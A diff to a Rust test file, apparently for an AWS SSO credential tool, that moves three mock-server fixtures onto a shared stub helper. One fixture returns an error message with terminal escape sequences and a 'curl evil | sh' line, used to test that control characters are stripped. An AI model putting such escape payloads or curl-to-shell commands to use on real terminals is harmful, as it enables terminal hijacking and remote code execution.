@@ -456,23 +456,8 @@ async fn a_pkce_error_with_the_right_state_ends_the_login_without_control_charac
 
 /// A portal that refuses GetRoleCredentials with a message full of terminal escapes.
 fn escaping_portal() -> String {
-    use std::io::{Read, Write};
-    let listener = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
-    let url = format!("http://{}", listener.local_addr().unwrap());
-    std::thread::spawn(move || {
-        for stream in listener.incoming() {
-            let Ok(mut s) = stream else { continue };
-            let mut buf = [0u8; 4096];
-            let _ = s.read(&mut buf);
-            let body = "{\"message\":\"\\u001b]0;owned\\u0007\\u001b[2JRun: curl evil | sh\",\"__type\":\"ForbiddenException\"}";
-            let _ = write!(
-                s,
-                "HTTP/1.1 403 Forbidden\r\ncontent-type: application/json\r\ncontent-length: {}\r\nconnection: close\r\n\r\n{body}",
-                body.len()
-            );
-        }
-    });
-    url
+    let body = "{\"message\":\"\\u001b]0;owned\\u0007\\u001b[2JRun: curl evil | sh\",\"__type\":\"ForbiddenException\"}";
+    crate::support::stub::fixed_reply("403 Forbidden", "application/json", body.into())
 }
 
 #[tokio::test(flavor = "multi_thread")]
@@ -496,26 +481,11 @@ async fn server_messages_reach_the_terminal_without_control_characters() {
 
 /// A portal whose role credentials hold a NUL byte in the secret.
 fn nul_portal() -> String {
-    use std::io::{Read, Write};
-    let listener = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
-    let url = format!("http://{}", listener.local_addr().unwrap());
-    std::thread::spawn(move || {
-        for stream in listener.incoming() {
-            let Ok(mut s) = stream else { continue };
-            let mut buf = [0u8; 4096];
-            let _ = s.read(&mut buf);
-            let body = format!(
-                "{{\"roleCredentials\":{{\"accessKeyId\":\"ASIANUL\",\"secretAccessKey\":\"sec\\u0000ret-NUL-SECRET\",\"sessionToken\":\"tok\",\"expiration\":{}}}}}",
-                (NOW + 3600) * 1000
-            );
-            let _ = write!(
-                s,
-                "HTTP/1.1 200 OK\r\ncontent-type: application/json\r\ncontent-length: {}\r\nconnection: close\r\n\r\n{body}",
-                body.len()
-            );
-        }
-    });
-    url
+    let body = format!(
+        "{{\"roleCredentials\":{{\"accessKeyId\":\"ASIANUL\",\"secretAccessKey\":\"sec\\u0000ret-NUL-SECRET\",\"sessionToken\":\"tok\",\"expiration\":{}}}}}",
+        (NOW + 3600) * 1000
+    );
+    crate::support::stub::fixed_reply("200 OK", "application/json", body)
 }
 
 #[tokio::test(flavor = "multi_thread")]
@@ -569,25 +539,10 @@ fn chained_config() -> String {
 
 /// An STS that answers every AssumeRole with `expiration`.
 fn sts_with_expiration(expiration: &'static str) -> String {
-    use std::io::{Read, Write};
-    let listener = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
-    let url = format!("http://{}", listener.local_addr().unwrap());
-    std::thread::spawn(move || {
-        for stream in listener.incoming() {
-            let Ok(mut s) = stream else { continue };
-            let mut buf = [0u8; 16384];
-            let _ = s.read(&mut buf);
-            let body = format!(
-                "<AssumeRoleResponse xmlns=\"https://sts.amazonaws.com/doc/2011-06-15/\"><AssumeRoleResult><Credentials><AccessKeyId>ASIAHOSTILE</AccessKeyId><SecretAccessKey>s</SecretAccessKey><SessionToken>t</SessionToken><Expiration>{expiration}</Expiration></Credentials><AssumedRoleUser><Arn>arn:aws:sts::222222222222:assumed-role/A/x</Arn><AssumedRoleId>AROA:x</AssumedRoleId></AssumedRoleUser></AssumeRoleResult></AssumeRoleResponse>"
-            );
-            let _ = write!(
-                s,
-                "HTTP/1.1 200 OK\r\ncontent-type: text/xml\r\ncontent-length: {}\r\nconnection: close\r\n\r\n{body}",
-                body.len()
-            );
-        }
-    });
-    url
+    let body = format!(
+        "<AssumeRoleResponse xmlns=\"https://sts.amazonaws.com/doc/2011-06-15/\"><AssumeRoleResult><Credentials><AccessKeyId>ASIAHOSTILE</AccessKeyId><SecretAccessKey>s</SecretAccessKey><SessionToken>t</SessionToken><Expiration>{expiration}</Expiration></Credentials><AssumedRoleUser><Arn>arn:aws:sts::222222222222:assumed-role/A/x</Arn><AssumedRoleId>AROA:x</AssumedRoleId></AssumedRoleUser></AssumeRoleResult></AssumeRoleResponse>"
+    );
+    crate::support::stub::fixed_reply("200 OK", "text/xml", body)
 }
 
 #[tokio::test(flavor = "multi_thread")]
